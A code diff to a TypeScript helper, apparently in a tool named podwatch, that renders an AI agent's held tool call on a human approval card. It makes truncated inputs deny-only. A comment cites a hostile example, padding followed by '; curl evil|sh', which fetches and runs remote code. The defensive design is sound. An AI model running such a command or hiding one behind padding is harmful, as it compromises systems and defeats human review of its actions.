@@ -1,22 +1,44 @@
 // How a held tool call reads on its inbox card: the command (or the whole input, pretty) and
 // what its deadline will decide. Pure, so the card's wording is tested without a browser.
 
+/**
+ * How much of a call's input the hook route keeps on the approval (GATED_INPUT_MAX of the domain;
+ * a test holds the two equal — the client does not import the event schemas for one number).
+ */
+export const SHOWN_INPUT_MAX = 20_000;
+/** The route's `cut` ends a shortened text with this. */
+const CUT_MARK = "…";
+
 export type HeldInput = {
   /** A Bash command, shown on its own in a code block. */
   command: string | null;
-  /** The whole input: pretty JSON, or the text as it came when it is not JSON (cut by the agent). */
+  /** The whole input: pretty JSON, or the text as it came when it is not JSON (cut by the route). */
   pretty: string;
+  /**
+   * Whether the card shows all the agent would run. The route stores the input as JSON cut at
+   * SHOWN_INPUT_MAX with a trailing "…"; a cut one no longer parses. Allowing it would allow a call
+   * the person could not read to its end (padding, then `; curl evil|sh`), so the card offers only Deny.
+   */
+  whole: boolean;
 };
 
 export function heldInput(text: string | undefined): HeldInput {
-  if (!text) return { command: null, pretty: "" };
+  if (!text) return { command: null, pretty: "", whole: false };
   try {
     const value: unknown = JSON.parse(text);
     const command = value && typeof value === "object" && typeof (value as { command?: unknown }).command === "string" ? (value as { command: string }).command : null;
-    return { command, pretty: JSON.stringify(value, null, 2) };
+    // The route's JSON of an input object never ends with the mark: a text that does was cut, whatever parses.
+    return { command, pretty: JSON.stringify(value, null, 2), whole: !text.endsWith(CUT_MARK) };
   } catch {
-    return { command: null, pretty: text };
+    return { command: null, pretty: text, whole: false };
   }
+}
+
+/** The banner of a call the card cannot show whole. */
+export function notWholeSentence(text: string | undefined): string {
+  return text
+    ? `This call's input is longer than podwatch shows (${SHOWN_INPUT_MAX.toLocaleString("en-US")} characters): only Deny is offered`
+    : "podwatch has no input for this call to show: only Deny is offered";
 }
 
 /** "Denied automatically at 14:05 unless someone answers", the time in the reader's own clock. */
